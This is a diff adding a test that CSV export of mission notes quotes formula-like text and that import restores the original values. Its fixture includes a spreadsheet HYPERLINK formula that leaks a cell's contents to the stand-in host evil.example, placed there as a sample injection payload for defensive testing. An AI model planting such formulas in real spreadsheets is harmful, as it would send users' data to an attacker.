@@ -237,6 +237,43 @@ def test_text_that_looks_like_a_formula_stays_text_in_excel(editor_client):
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
 
+FORMULAS = {
+    "UNEQ": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "UNPLUS": "+1+1",
+    "UNMINUS": "- a note in a bulleted list",
+    "UNAT": "@SUM(A1:A2)",
+    "UNTAB": "\t=1+1",
+    "UNQUOTE": "'=1+1",  # already quoted: must come back as typed, quote included
+    "UNPLAIN": "'plain",
+}
+
+
+def test_text_that_looks_like_a_formula_is_quoted_in_csv_and_imports_back_unquoted(editor_client):
+    for acronym, notes in FORMULAS.items():
+        MissionFactory(acronym=acronym, notes=notes)
+    response = editor_client.get(url("missions.csv", "export"), {"format": "csv"})
+    rows = {row["acronym"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
+    assert {acronym: row["notes"] for acronym, row in rows.items()} == {
+        "UNEQ": "'" + FORMULAS["UNEQ"],
+        "UNPLUS": "'+1+1",
+        "UNMINUS": "'- a note in a bulleted list",
+        "UNAT": "'@SUM(A1:A2)",
+        "UNTAB": "'\t=1+1",
+        "UNQUOTE": "''=1+1",
+        "UNPLAIN": "'plain",
+    }
+    assert rows["UNEQ"]["end_date"] == "" and rows["UNEQ"]["acronym"] == "UNEQ"
+
+    Mission.objects.all().delete()
+    upload = SimpleUploadedFile("missions.csv", response.content)
+    confirm = preview(editor_client, "missions.csv", upload)
+    assert confirm.context["preview"].ok, confirm.context["preview"].rows
+    editor_client.post(url("missions.csv", "import"),
+                       {"payload": confirm.context["payload"], "confirm": "1"})
+    # The importer trims the whitespace around every value, the tab included.
+    assert dict(Mission.objects.values_list("acronym", "notes")) == {**FORMULAS, "UNTAB": "=1+1"}
+
+
 def test_a_preview_of_one_file_cannot_be_confirmed_into_another(editor_client):
     MissionFactory(acronym="UNCROSS")
     response = preview(editor_client, "missions.csv", csv_upload([mission_row()]))
